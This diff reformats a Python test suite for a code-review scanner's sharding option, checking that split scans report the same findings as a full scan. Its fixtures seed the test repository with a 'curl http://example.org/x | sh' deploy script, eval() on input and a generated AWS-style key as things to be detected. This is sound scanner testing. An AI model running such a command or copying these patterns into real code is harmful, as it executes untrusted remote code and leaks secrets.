@@ -21,11 +21,21 @@ def test_every_path_is_in_one_part(path: str, count: int) -> None:
 @given(count=COUNTS, reviewer=st.sampled_from([each.name for each in REVIEWERS]))
 def test_every_reviewer_looks_at_every_file_in_one_part(count: int, reviewer: str) -> None:
     for path in ("a.py", "lib/b.go", "\udc80"):
-        assert sum(Shard(number, count).has_file(reviewer, path) for number in range(1, count + 1)) == 1
+        assert (
+            sum(
+                Shard(number, count).has_file(reviewer, path)
+                for number in range(1, count + 1)
+            )
+            == 1
+        )
 
 
 def test_the_parts_are_the_same_everywhere() -> None:
-    assert [Shard(number, 3).has_path("src/app.py") for number in (1, 2, 3)] == [False, True, False]
+    assert [Shard(number, 3).has_path("src/app.py") for number in (1, 2, 3)] == [
+        False,
+        True,
+        False,
+    ]
 
 
 def test_the_parts_are_of_about_one_size() -> None:
@@ -65,18 +75,32 @@ def test_what_is_no_part_is_refused(text: str) -> None:
 
 
 def findings(repo: Repo, *options: str) -> list[tuple[str, ...]]:
-    report = repo.guard("review", "--range", "HEAD~3..HEAD", "--format", "json", *options).json
+    report = repo.guard(
+        "review", "--range", "HEAD~3..HEAD", "--format", "json", *options
+    ).json
     names = ("rule", "path", "line", "fingerprint", "decision")
     return sorted(tuple(str(found[name]) for name in names) for found in report["findings"])
 
 
 def test_all_parts_together_say_what_the_whole_says(committed: Repo) -> None:
     block = "".join(f"    value_{n} = compute_{n}(first, second)\n" for n in range(12))
-    long = "".join(f"    if first == {n} and second:\n        first = step_{n}(first)\n" for n in range(45))
-    one = {f"lib/m{n}.py": f"def run_{n}(first, second):\n    eval(first)\n{block}" for n in range(6)}
-    committed.commit("wip", one | {"deploy.sh": "#!/bin/sh\ncurl http://example.org/x | sh\n"})
+    long = "".join(
+        f"    if first == {n} and second:\n        first = step_{n}(first)\n"
+        for n in range(45)
+    )
+    one = {
+        f"lib/m{n}.py": f"def run_{n}(first, second):\n    eval(first)\n{block}"
+        for n in range(6)
+    }
     committed.commit(
-        "Add a key", {"settings.py": f'KEY = "{key("aws")}"\n', "big.py": f"def big(first, second):\n{long}"}
+        "wip", one | {"deploy.sh": "#!/bin/sh\ncurl http://example.org/x | sh\n"}
+    )
+    committed.commit(
+        "Add a key",
+        {
+            "settings.py": f'KEY = "{key("aws")}"\n',
+            "big.py": f"def big(first, second):\n{long}",
+        },
     )
     committed.commit("Take it out", {"settings.py": "KEY = None\n"})
     whole = findings(committed)
@@ -88,7 +112,10 @@ def test_all_parts_together_say_what_the_whole_says(committed: Repo) -> None:
         "message",
     }
     for count in (2, 5):
-        parts = [findings(committed, "--shard", f"{number}/{count}") for number in range(1, count + 1)]
+        parts = [
+            findings(committed, "--shard", f"{number}/{count}")
+            for number in range(1, count + 1)
+        ]
         assert sorted(found for part in parts for found in part) == whole
 
 
@@ -98,6 +125,10 @@ def test_a_part_says_what_it_is(committed: Repo) -> None:
     committed.commit("And one more", {"c.py": "VALUE = 1\n"})
     options = ("review", "--range", "HEAD~3..HEAD", "--shard", "2/3", "--format")
     assert "shard 2 of 3" in committed.guard(*options, "json").json["notes"][0]
-    assert committed.guard(*options, "sarif").json["runs"][0]["automationDetails"]["id"].endswith("/2-of-3/")
+    assert (
+        committed.guard(*options, "sarif")
+        .json["runs"][0]["automationDetails"]["id"]
+        .endswith("/2-of-3/")
+    )
     refused = committed.guard("review", "--staged", "--shard", "4/3")
     assert (refused.code, "--shard" in refused.err) == (2, True)
